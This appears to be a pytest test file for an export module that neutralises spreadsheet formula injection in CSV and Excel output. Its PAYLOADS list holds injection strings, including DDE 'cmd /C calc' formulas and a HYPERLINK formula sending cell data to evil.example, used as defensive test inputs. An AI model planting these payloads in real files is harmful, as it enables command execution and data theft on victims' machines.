"""What is exported is exact, pleasant to read, and never a formula."""

import csv
import os
import resource
import shutil
import stat
import subprocess
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import date, datetime
from decimal import Decimal
from io import StringIO
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from data import export
from data.errors import ConfigError, UserError
from data.export import CREATED, Sheet, neutralise, restore, write_csv, write_xlsx
from data.private import replacing

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")
PAYLOADS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+46 70 123 45 67",
    "-5",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\x00=1+1",
    "\tname",
    "\rname",
    "\nname",
    "\x00name",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    " =1+1",
    "   +1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    ";=1+1",
    "; =1+1",
    "x;=1+1",
    "x\t=1+1",
    "x\n@SUM(1)",
    "x\r=1+1",
    "'=1+1",
    "''=1+1",
    "';=1+1",
    ";'=1+1",
    '"=1+1"\n=2',
    '";=1+1;"',
    "\u22125",
)
HARMLESS = (
    "",
    "Anna",
    "'s-Hertogenbosch",
    "a = b",
    "a-b",
    "anna@example.com",
    "milk, -5% off",
    "1;2",
    "'",
    "''",
    "O'Neil",
    "tall\nlines",
    "_x0041_",
    "x005F",
    "2024-01-01",
    "12",
)


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(StringIO(path.read_bytes().decode(), newline="")))


def one_column(values: list[Any], dtype: str | None = None) -> pd.DataFrame:
    return pd.DataFrame({"name": pd.Series(values, dtype=dtype)})


def book(path: Path, *sheets: Sheet, **kwargs: Any) -> Any:
    write_xlsx(sheets, path, **kwargs)
    return openpyxl.load_workbook(path)


def cells(path: Path) -> Iterator[Any]:
    for worksheet in openpyxl.load_workbook(path).worksheets:
        for row in worksheet.iter_rows():
            yield from row


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_part_of_a_payload_begins_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert safe != text
    assert not safe.startswith(TRIGGERS)
    for separator in ";\t\r\n":
        for part in safe.split(separator):
            bare = part.strip().strip("\x00\u200b\ufeff\u00a0")
            assert not bare.startswith(tuple("=+-@＝＋－＠\u2212"))
    assert restore(safe) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_stays_as_it_is(text: str) -> None:
    assert neutralise(text) == text
    assert restore(text) == text


@settings(max_examples=500, deadline=None)
@example("_x000D_")
@example("_'x000D_=1")
@example("'''\t'=;'_x0000__x0000_")
@given(
    st.one_of(st.text(), st.text(alphabet="'=+-@;\t\r\n\x00 ＝a,\u200b_x0D"), st.sampled_from(("_x000D_", "_'xFFFE_")))
)
def test_every_text_comes_back(text: str) -> None:
    safe = neutralise(text)
    assert restore(safe) == text
    assert not safe.startswith(TRIGGERS)
    assert not safe.strip().startswith(tuple("=+-@"))
    assert restore(neutralise(safe)) == safe


def test_csv_payloads_are_neutral_and_come_back(tmp_path: Path) -> None:
    texts = [*PAYLOADS, *HARMLESS]
    write_csv(one_column(texts), tmp_path / "a.csv")
    rows = read_csv(tmp_path / "a.csv")
    assert rows[0] == ["name"]
    assert [row[0] for row in rows[1:]] == [neutralise(text) for text in texts]
    assert [restore(row[0]) for row in rows[1:]] == texts


def test_csv_is_safe_where_semicolons_separate(tmp_path: Path) -> None:
    """Some locales split at semicolons and see no quotes inside a field that does not begin with one."""
    frame = pd.DataFrame({"n": range(len(PAYLOADS)), "name": PAYLOADS})
    write_csv(frame, tmp_path / "a.csv")
    for line in (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines():
        for field in line.split(";"):
            assert not field.strip().startswith(tuple("=+-@＝＋－＠"))


def test_csv_numbers_dates_and_flags_stay_what_they_are(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "amount_cents": [-5, 2**62],
            "share": [-0.1, 1e-300],
            "quantity": [Decimal("-1.500"), Decimal("0.001")],
            "is_eligible": [True, False],
            "due_on": [date(2018, 1, 2), date(1850, 12, 31)],
            "as_of": pd.to_datetime(["2018-01-01 05:00:00", "2018-01-01 05:00:00.000001"], format="ISO8601"),
            "text": ["", None],
            "number": [np.nan, 2.0],
        }
    )
    write_csv(frame, tmp_path / "a.csv")
    assert (tmp_path / "a.csv").read_text(encoding="utf-8").splitlines() == [
        '"amount_cents","share","quantity","is_eligible","due_on","as_of","text","number"',
        '-5,-0.1,-1.500,true,2018-01-02,2018-01-01 05:00:00,"",',
        "4611686018427387904,1e-300,0.001,false,1850-12-31,2018-01-01 05:00:00.000001,,2.0",
    ]


def test_csv_reads_back_with_pandas(tmp_path: Path) -> None:
    rng = np.random.default_rng(1)
    frame = pd.DataFrame({"customer_id": [f"c{i}" for i in range(500)], "x": rng.normal(size=500)})
    frame["n"] = rng.integers(-(10**15), 10**15, 500)
    write_csv(frame, tmp_path / "a.csv")
    again = pd.read_csv(tmp_path / "a.csv", dtype={"customer_id": "str"})
    pd.testing.assert_frame_equal(again, frame, check_exact=True)


def test_odd_values_are_written_safely(tmp_path: Path) -> None:
    values = [np.int64(-3), np.bool_(True), float("-inf"), ["=1"], pd.NaT, pd.NA, pd.Timedelta(days=-1), 10**20]
    frame = one_column(values, "object")
    write_csv(frame, tmp_path / "a.csv")
    lines = (tmp_path / "a.csv").read_text(encoding="utf-8").split("\n")[1:-1]
    assert lines == ["-3", "true", '"\'-inf"', "\"['=1']\"", "", "", '"\'-1 days +00:00:00"', str(10**20)]
    sheet = book(tmp_path / "a.xlsx", Sheet("odd", frame))["odd"]
    assert [sheet.cell(row, 1).value for row in range(2, 10)] == [
        "'-3", True, "'-inf", "['=1']", None, None, "'-1 days +00:00:00", str(10**20),
    ]  # fmt: skip


def test_headers_and_names_of_sheets_are_neutralised_too(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=1+1": [1], "+x": ["=2"]})
    write_csv(frame, tmp_path / "a.csv")
    assert read_csv(tmp_path / "a.csv")[0] == ["'=1+1", "'+x"]
    sheet = Sheet("=tab", frame, headers={"+x": "@title"}, note="=3")
    workbook = book(tmp_path / "a.xlsx", sheet, read_me=["=4"])
    assert [cell.value for cell in workbook["=tab"][1]] == ["'=1+1", "'@title"]
    assert workbook["Read me"]["A1"].value == "'=4"
    assert all(cell.data_type != "f" for cell in cells(tmp_path / "a.xlsx"))


def test_workbook_payloads_are_texts_and_come_back(tmp_path: Path) -> None:
    texts = [*PAYLOADS, *HARMLESS]
    for formats in ({}, {"name": "text"}, {"name": "money"}, {"name": "date"}):
        sheet = book(tmp_path / "a.xlsx", Sheet("names", one_column(texts), formats))["names"]
        found = [sheet.cell(row, 1) for row in range(2, len(texts) + 2)]
        assert {cell.data_type for cell in found if cell.value is not None} == {"s"}
        assert [restore(cell.value or "") for cell in found] == texts
        assert not any((cell.value or "").startswith(TRIGGERS) for cell in found)


@settings(max_examples=40, deadline=None)
@given(texts=st.lists(st.text(min_size=1).filter(lambda text: "x005F_" not in text), min_size=1, max_size=20))
def test_any_text_comes_back_from_a_workbook(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    path = tmp_path_factory.mktemp("book") / "a.xlsx"
    sheet = book(path, Sheet("names", one_column(texts, "object")))["names"]
    found = [sheet.cell(row, 1) for row in range(2, len(texts) + 2)]
    assert {cell.data_type for cell in found} == {"s"}
    assert [restore(cell.value) for cell in found] == texts


def test_no_formula_element_in_the_file(tmp_path: Path) -> None:
    write_xlsx([Sheet("names", one_column(list(PAYLOADS)))], tmp_path / "a.xlsx", read_me=PAYLOADS)
    with zipfile.ZipFile(tmp_path / "a.xlsx") as archive:
        sheets = [archive.read(name) for name in archive.namelist() if name.startswith("xl/worksheets/sheet")]
        names = archive.namelist()
    assert len(sheets) == 2
    assert not any(b"<f" in sheet.replace(b"<formatCode", b"") for sheet in sheets)
    assert not any("externalLink" in name or "vba" in name for name in names)


@pytest.fixture
def actions() -> Sheet:
    frame = pd.DataFrame(
        {
            "customer_id": ["7", "12"],
            "value_at_risk_cents": [123_456, -250],
            "churn_probability": [0.25, None],
            "due_on": [date(2018, 1, 2), None],
            "as_of": pd.to_datetime(["2018-01-01 05:00"] * 2),
            "priority": pd.array([1, None], dtype="Int64"),
            "is_eligible": [True, False],
            "n_orders": [1234, 5],
            "reasons": ["no visit for 40 days; spends less", None],
        }
    )
    formats = {"n_orders": "integer"}
    return Sheet("Actions", frame, formats, {"customer_id": "Customer"}, "Whom to contact first.")  # type: ignore[arg-type]


def test_a_manager_sees_money_percents_and_dates(tmp_path: Path, actions: Sheet) -> None:
    sheet = book(tmp_path / "a.xlsx", actions)["Actions"]
    titles = [cell.value for cell in sheet[1]]
    assert titles[:5] == ["Customer", "Value at risk", "Churn probability", "Due on", "As of"]
    first, second = (dict(zip(titles, row, strict=True)) for row in (sheet[2], sheet[3]))
    assert (first["Value at risk"].value, second["Value at risk"].value) == (1234.56, -2.5)
    assert first["Value at risk"].number_format == "#,##0.00"
    assert (first["Churn probability"].value, first["Churn probability"].number_format) == (0.25, "0.0%")
    assert (first["Due on"].value, first["Due on"].number_format) == (
        datetime.fromisoformat("2018-01-02"),
        "yyyy-mm-dd",
    )
    assert first["As of"].value == datetime.fromisoformat("2018-01-01 05:00")
    assert first["As of"].number_format == "yyyy-mm-dd hh:mm"
    assert (first["N orders"].value, first["N orders"].number_format) == (1234, "#,##0")
    assert (first["Is eligible"].value, first["Is eligible"].data_type) == (True, "b")
    assert (first["Priority"].value, first["Customer"].data_type) == (1, "s")
    assert [second[title].value for title in ("Churn probability", "Due on", "Priority", "Reasons")] == [None] * 4


def test_a_manager_can_filter_scroll_and_read(tmp_path: Path, actions: Sheet) -> None:
    workbook = book(tmp_path / "a.xlsx", actions, read_me=["Actions of the night", "Made by regulars."])
    sheet, read_me = workbook["Actions"], workbook["Read me"]
    assert workbook.sheetnames == ["Read me", "Actions"]
    assert sheet.freeze_panes == "B2"
    assert sheet.auto_filter.ref == "A1:I3"
    assert all(cell.font.bold for cell in sheet[1])
    widths = [sheet.column_dimensions[cell.column_letter].width for cell in sheet[1]]
    assert all(8 <= width <= 61 for width in widths)
    assert widths[8] > len("no visit for 40 days; spends less")
    lines = [row[0].value for row in read_me.iter_rows()]
    assert lines == ["Actions of the night", "Made by regulars.", "", "Actions (2 rows). Whom to contact first."]
    assert read_me["A1"].font.bold


def test_explicit_formats_win_over_suffixes(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"uplift": [0.5], "spend_cents": [150], "net": [1050], "code": [12], "day": [date(2018, 1, 2)]}
    )
    formats = {"uplift": "percent", "spend_cents": "integer", "net": "money", "code": "text", "day": "date"}
    sheet = book(tmp_path / "a.xlsx", Sheet("x", frame, formats))["x"]  # type: ignore[arg-type]
    shown = [(cell.value, cell.number_format) for cell in sheet[2]]
    assert shown[:4] == [(0.5, "0.0%"), (150, "#,##0"), (10.5, "#,##0.00"), ("12", "@")]
    assert shown[4] == (datetime.fromisoformat("2018-01-02"), "yyyy-mm-dd")


def test_limits_of_the_format_are_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    frame = pd.DataFrame({"text": ["x" * 40_000], "id": [10**15], "day": [date(1850, 1, 1)]})
    sheet = book(tmp_path / "a.xlsx", Sheet("x", frame))["x"]
    assert [cell.value for cell in sheet[2]] == ["x" * 32_767, str(10**15), "1850-01-01"]
    monkeypatch.setattr(export, "MAX_ROWS", 1)
    with pytest.raises(UserError, match="2 rows for sheet 'x'"):
        write_xlsx([Sheet("x", pd.DataFrame({"a": [1, 2]}))], tmp_path / "b.xlsx")
    assert not (tmp_path / "b.xlsx").exists()


def test_empty_frames_are_written(tmp_path: Path) -> None:
    for frame in (pd.DataFrame(), pd.DataFrame({"a": pd.Series(dtype="str")})):
        write_csv(frame, tmp_path / "a.csv")
        assert book(tmp_path / "a.xlsx", Sheet("x", frame))["x"].max_row == 1
    assert (tmp_path / "a.csv").read_text(encoding="utf-8") == '"a"\n'


def test_same_input_gives_same_bytes(tmp_path: Path, actions: Sheet) -> None:
    for name in ("a", "b"):
        write_xlsx([actions], tmp_path / f"{name}.xlsx", read_me=["x"])
        write_csv(actions.frame, tmp_path / f"{name}.csv")
    assert (tmp_path / "a.xlsx").read_bytes() == (tmp_path / "b.xlsx").read_bytes()
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()
    assert openpyxl.load_workbook(tmp_path / "a.xlsx").properties.created == CREATED
    later = datetime.fromisoformat("2018-01-01 05:00")
    assert book(tmp_path / "c.xlsx", actions, created=later).properties.created == later


@pytest.mark.skipif(os.name != "posix", reason="file modes are POSIX's")
def test_files_are_readable_by_their_owner_alone(tmp_path: Path, actions: Sheet) -> None:
    (tmp_path / "a.csv").write_text("old", encoding="utf-8")
    (tmp_path / "a.csv").chmod(0o666)
    before = os.umask(0)
    try:
        write_csv(actions.frame, tmp_path / "a.csv")
        write_xlsx([actions], tmp_path / "a.xlsx")
    finally:
        os.umask(before)
    assert {stat.S_IMODE(path.stat().st_mode) for path in tmp_path.iterdir()} == {0o600}


@contextmanager
def full_disk(n_bytes: int) -> Iterator[None]:
    """Let no file of this process have more bytes, as on a full disk; Python ignores the signal that says so."""
    before = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (n_bytes, before[1]))
    try:
        yield
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, before)


@pytest.mark.skipif(os.name != "posix", reason="limits are POSIX's")
@pytest.mark.parametrize("name", ["a.csv", "a.xlsx"])
def test_a_failed_write_leaves_the_old_file_and_nothing_else(tmp_path: Path, actions: Sheet, name: str) -> None:
    path = tmp_path / name
    path.write_text("old", encoding="utf-8")
    with full_disk(10), pytest.raises(OSError, match="File too large"):
        write_csv(actions.frame, path) if name.endswith("csv") else write_xlsx([actions], path)
    assert [entry.name for entry in tmp_path.iterdir()] == [name]
    assert path.read_text(encoding="utf-8") == "old"


def test_what_a_killed_export_left_is_gone_after_the_next(tmp_path: Path, actions: Sheet) -> None:
    with replacing(tmp_path / "a.csv") as left:
        name = left.name
    (tmp_path / name).write_text("half of a")
    write_csv(actions.frame, tmp_path / "a.csv")
    assert [entry.name for entry in tmp_path.iterdir()] == ["a.csv"]


def test_a_missing_folder_is_a_user_error(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="no folder"):
        write_csv(one_column(["a"]), tmp_path / "none" / "a.csv")


def test_a_long_file_name_is_written(tmp_path: Path) -> None:
    path = tmp_path / ("x" * 240 + ".csv")
    write_csv(one_column(["a"]), path)
    assert path.exists()


@pytest.mark.skipif(shutil.which("libreoffice") is None, reason="LibreOffice is not on this machine")
@pytest.mark.slow
def test_libreoffice_sees_text_not_formulas(tmp_path: Path) -> None:
    write_xlsx([Sheet("names", one_column(list(PAYLOADS)))], tmp_path / "a.xlsx")
    command = ["libreoffice", "--headless", "--convert-to", "fods", "--outdir", str(tmp_path), str(tmp_path / "a.xlsx")]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    assert "table:formula" not in (tmp_path / "a.fods").read_text(encoding="utf-8")
